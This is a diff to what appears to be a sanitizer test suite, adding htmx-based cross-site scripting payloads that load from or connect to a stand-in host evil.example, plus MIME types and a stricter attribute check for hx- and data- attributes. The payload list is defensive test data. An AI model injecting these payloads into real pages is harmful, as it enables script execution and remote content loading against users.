@@ -58,6 +58,10 @@ PAYLOADS = [
     "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
     "\x1b[31m<script>alert(1)</script>\x1b[0m",
     "{{ 7*7 }} {% raw %} ${7*7}",
+    # What this service's own scripts go by
+    "<div hx-get='https://evil.example/x' hx-trigger=load>x</div>",
+    "<p hx-on:click='alert(1)' data-hx-on-htmx-load='alert(1)' id=said>x</p>",
+    "<b id=live hx-sse:connect='https://evil.example'>x</b><b data-sorts><button class=sort>x</button></b>",
     # Markdown
     "[approve](javascript:alert(1))",
     "[approve](https://evil.example)",
@@ -84,6 +88,25 @@ PAYLOADS = [
     "\u202egnp.exe\u2066",
     "\ud800 half",
 ]
+
+WRITABLE = [payload for payload in PAYLOADS if "\ud800" not in payload and "\x00" not in payload]
+"""Those that a database takes as text."""
+
+MIMES = [
+    "text/plain",
+    "text/html",
+    "text/markdown",
+    "text/latex",
+    "image/svg+xml",
+    "image/png",
+    "image/jpeg",
+    "application/json",
+    "application/javascript",
+    "application/vnd.jupyter.widget-view+json",
+    "application/vnd.plotly.v1+json",
+    "application/vnd.vegalite.v5+json",
+]
+"""Forms that an output may have, of which some must not be shown."""
 
 ACTIVE = frozenset(
     [
@@ -151,7 +174,7 @@ class Judge(HTMLParser):
             self.faults.append(tag)
         for name, given in attrs:
             value = unquote(given or "").strip().lower()
-            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "ping", "srcset"):
+            if name.startswith(("on", "hx-", "data-")) or name in ("srcdoc", "formaction", "action", "ping", "srcset"):
                 self.faults.append((tag, name, value))
             if name in ADDRESSES and not value.startswith(
                 (
